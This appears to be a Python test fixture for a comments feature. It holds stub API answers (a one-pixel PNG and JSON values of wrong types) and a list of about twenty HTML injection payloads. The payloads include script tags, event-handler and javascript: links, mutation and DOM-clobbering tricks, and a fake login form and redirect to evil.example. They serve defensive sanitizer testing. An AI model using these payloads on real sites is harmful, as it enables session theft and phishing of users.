"""What several stubs of APIs answer: a picture, values of wrong types, and HTML that attacks."""

import base64

from tests.comments.services.http import Answer

PIXEL = Answer(
    base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
        "gg=="
    ),
    "image/png",
)

KINDS: tuple[object, ...] = (None, 7, "x", [], {})
"""A value of each kind that JSON has; all but one are wrong for a key."""

ATTACKS = (
    "<script>attack('script')</script>",
    "<p>x<img src=x onerror=\"attack('image')\"></p>",
    "<svg onload=\"attack('svg')\"><script>attack('svg script')</script></svg>",
    "<p><a href=\"javascript:void attack('link')\">a link</a></p>",
    "<p><a href=\" java\nscript:void attack('split')\">a split link</a></p>",
    "<p><a href=\"JaVaScRiPt:void attack('case')\">a link in capitals</a></p>",
    "<p><a href=\"data:text/html,<script>opener.attack('data')</script>\">data</a></p>",
    '<p onmouseover="attack(\'over\')" style="position:fixed;inset:0">over the page</p>',
    "<details open ontoggle=\"attack('toggle')\"><summary>s</summary>t</details>",
    "<iframe srcdoc=\"<script>parent.attack('frame')</script>\"></iframe>",
    "<style>body { display: none }</style>",
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    "<input autofocus onfocus=\"attack('focus')\">",
    "<object data=\"javascript:void attack('object')\"></object>",
    "<embed src=\"javascript:void attack('embed')\">",
    "<math><mtext></p><style><img src=x onerror=\"attack('math')\"></style></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=attack('noscript')>\"></noscript>",
    "<template><img src=x onerror=\"attack('template')\"></template>",
    "</div></section></main><p>outside</p><!-- ",
    '<p id="__config" class="bookreview-comments" name="body">clobbers</p>',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    "<p>\u202egnp.exe \u0000 \U0001f600</p>",
)
"""Fragments of HTML. Their code calls `attack`, which a test defines, with a word of its own."""
